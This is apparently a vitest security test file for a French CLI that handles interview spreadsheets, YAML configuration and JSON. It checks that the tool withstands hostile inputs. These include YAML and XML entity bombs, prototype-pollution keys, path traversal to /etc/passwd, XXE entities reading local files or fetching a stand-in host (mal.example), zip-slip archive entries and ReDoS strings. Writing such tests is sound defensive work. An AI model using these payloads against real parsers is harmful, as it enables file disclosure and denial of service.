import { stringify } from 'csv-stringify/sync';
import { strToU8, zipSync } from 'fflate';
import { describe, expect, it } from 'vitest';
import { columnsOf } from '../../src/columns/index.ts';
import { run } from '../cli/recorded.ts';
import { folderWith } from '../cli/temporary.ts';

/* Small files that ask for much: each is refused or read in seconds, none crashes, none reads another file. */

const interviews = 'acteur;date;forces\nAssociation fictive Alpha;2025-03-01;une équipe soudée\n';

async function timed(files: Record<string, string | Uint8Array>, argv: string[]) {
  const cwd = folderWith({ 'donnees/SN/entretiens.csv': interviews, ...files });
  const started = Date.now();
  const { code, stdout, stderr } = await run(argv, { cwd });
  return { code, said: stdout + stderr, seconds: (Date.now() - started) / 1000 };
}

const aliases = (top: string) =>
  `${['a: &a [x,x,x,x,x,x,x,x,x]', ...'bcdefghi'.split('').map((name, at) => `${name}: &${name} [${Array(9).fill(`*${'abcdefgh'[at]}`).join(',')}]`)].join('\n')}\n${top}: *i\n`;

describe('configuration and countries', () => {
  it.each([
    ['aliases that multiply', aliases('rapport')],
    ['a mapping that contains itself', 'rapport: &a\n  titre: *a\n'],
    ['lists nested deep', `rapport: ${'['.repeat(20_000)}${']'.repeat(20_000)}\n`],
    ['a key of every object', '__proto__:\n  polluted: 1\nrapport:\n  __proto__: { polluted: 1 }\n  titre: x\n'],
    ['a tag', 'rapport: !!js/function "function () { return 1 }"\n'],
    ['a merge', 'base: &b { titre: x }\nrapport:\n  <<: *b\n'],
    ['files outside', 'fichiers:\n  - fichier: ../../../../../../etc/passwd\n    type: entretiens\n'],
  ])(
    '%s',
    async (_, yaml) => {
      for (const path of ['cartographie.yaml', 'donnees/pays/SN.yaml']) {
        const { code, said, seconds } = await timed({ [path]: yaml }, ['validate', '--pays', 'SN']);
        expect({ code, said }).not.toMatchObject({ code: 3 });
        expect(said).not.toContain('root:');
        expect(seconds).toBeLessThan(20);
      }
      expect(({} as Record<string, unknown>).polluted).toBeUndefined();
    },
    60_000,
  );
});

describe('saved JSON', () => {
  it.each([
    ['nested deep', `${'['.repeat(200_000)}${']'.repeat(200_000)}`],
    ['objects nested deep', `${'{"a":'.repeat(100_000)}1${'}'.repeat(100_000)}`],
    [
      'a key of every object',
      '{"__proto__":{"polluted":1},"format":"cartographie","constructor":{"prototype":{"polluted":1}}}',
    ],
    ['a number too large', '{"format":"cartographie","format_version":1e999}'],
    ['nothing', ''],
    ['a lone surrogate', '"\\ud800"'],
  ])(
    '%s',
    async (_, json) => {
      for (const argv of [
        ['render', 'a.json'],
        ['diff', 'a.json', 'a.json'],
        ['compare', 'a.json', 'a.json'],
        ['tabulate', 'roles', 'a.json'],
        ['classify', 'a.json'],
      ]) {
        const { code, said, seconds } = await timed({ 'a.json': json }, argv);
        expect({ argv, code, said }).not.toMatchObject({ code: 3 });
        expect(seconds).toBeLessThan(20);
      }
      expect(({} as Record<string, unknown>).polluted).toBeUndefined();
    },
    60_000,
  );
});

describe('workbooks', () => {
  const book = (sheet: string, shared = '<sst/>') =>
    zipSync(
      {
        '[Content_Types].xml': strToU8('<Types/>'),
        'xl/workbook.xml': strToU8(
          '<workbook xmlns:r="r"><sheets><sheet name="entretiens" sheetId="1" r:id="r1"/></sheets></workbook>',
        ),
        'xl/_rels/workbook.xml.rels': strToU8(
          '<Relationships><Relationship Id="r1" Target="worksheets/sheet1.xml"/></Relationships>',
        ),
        'xl/sharedStrings.xml': strToU8(shared),
        'xl/worksheets/sheet1.xml': strToU8(sheet),
      },
      { level: 6 },
    );
  const cell = (text: string) => `<c t="inlineStr"><is><t>${text}</t></is></c>`;
  const sheetOf = (inside: string, prolog = '') =>
    `${prolog}<worksheet><sheetData><row>${cell('acteur')}${cell('date')}</row><row>${inside}</row></sheetData></worksheet>`;
  const laughs = `<!DOCTYPE x [<!ENTITY a "ha">${'bcdefghi'
    .split('')
    .map((name, at) => `<!ENTITY ${name} "${`&${'abcdefgh'[at]};`.repeat(10)}">`)
    .join('')}]>`;
  it.each([
    ['entities that multiply', () => book(sheetOf(cell('&i;'), laughs))],
    [
      'an entity that is a file',
      () => book(sheetOf(cell('&x;'), '<!DOCTYPE x [<!ENTITY x SYSTEM "file:///etc/passwd">]>')),
    ],
    [
      'an entity that is an address',
      () => book(sheetOf(cell('&x;'), '<!DOCTYPE x [<!ENTITY % x SYSTEM "https://mal.example/x"> %x;]>')),
    ],
    ['a cell of eighty million letters', () => book(sheetOf(cell('a'.repeat(80_000_000))))],
    ['a cell a billion columns away', () => book(sheetOf('<c r="ZZZZZZ99999999" t="inlineStr"><is><t>x</t></is></c>'))],
    [
      'a string that is not there',
      () => book(sheetOf('<c t="s"><v>99999999999</v></c><c t="s"><v>-1</v></c><c t="s"><v>__proto__</v></c>')),
    ],
    [
      'a merge of everything',
      () =>
        book(
          '<worksheet><sheetData><row><c t="inlineStr"><is><t>acteur</t></is></c></row></sheetData><mergeCells><mergeCell ref="A1:XFD1048576"/></mergeCells></worksheet>',
        ),
    ],
    [
      'a part outside',
      () =>
        zipSync({
          '../../evade.xml': strToU8('x'),
          'xl/workbook.xml': strToU8('<workbook><sheets><sheet name="a" r:id="r1"/></sheets></workbook>'),
          'xl/_rels/workbook.xml.rels': strToU8(
            '<Relationships><Relationship Id="r1" Target="../../../../etc/passwd"/></Relationships>',
          ),
        }),
    ],
  ])(
    '%s',
    async (_, make) => {
      const { code, said, seconds } = await timed({ 'donnees/SN/entretiens-2.xlsx': make() }, [
        'validate',
        '--pays',
        'SN',
      ]);
      expect({ code, said: said.slice(0, 2000) }).not.toMatchObject({ code: 3 });
      expect(said).not.toContain('root:');
      expect(said).not.toContain('haha');
      expect(seconds).toBeLessThan(40);
    },
    120_000,
  );
});

describe('texts that make a careless pattern go back and forth', () => {
  const long = 1500;
  it.each([
    ['blanks', `${' '.repeat(long)}x`],
    ['figures and blanks', '1 '.repeat(long)],
    ['figures', '1'.repeat(long)],
    ['at signs', 'a@'.repeat(long)],
    ['dots', 'a.'.repeat(long)],
    ['slashes', 'https://'.repeat(long / 4)],
    ['brackets', '('.repeat(long)],
    ['civilities', 'M. Aa '.repeat(long / 4)],
    ['commas', 'a,'.repeat(long)],
    ['semicolons and quotes', '";"'.repeat(long / 2)],
    ['colons', 'role:'.repeat(long / 2)],
    ['capitals', 'A '.repeat(long)],
    ['stars', '*a'.repeat(long)],
    ['link marks', '[a]('.repeat(long)],
    ['hyphens', '-a'.repeat(long)],
    ['marks', `e${'\u0301'.repeat(long)}`],
    ['negations', 'ne pas '.repeat(long / 4)],
    ['Arabic', 'ال'.repeat(long)],
  ])(
    '%s',
    async (_, text) => {
      const keys = columnsOf('entretiens')
        .map(({ key }) => key)
        .filter((key) => !/^(?:accord_|pays|codeur|retrait|audience|sensib|mandat)/.test(key));
      const row = keys.map((key) => (key === 'acteur' ? `Association ${text}` : text));
      const files = {
        'donnees/SN/entretiens.csv': stringify([keys, row, row.map((cell) => `${cell}!`)], { delimiter: ';' }),
        'donnees/SN/textes/contexte.md': `${text}\n`,
      };
      const { code, said, seconds } = await timed(files, ['build', '--pays', 'SN']);
      expect({ code, said: said.slice(0, 2000) }).not.toMatchObject({ code: 3 });
      expect(seconds).toBeLessThan(40);
    },
    120_000,
  );
});
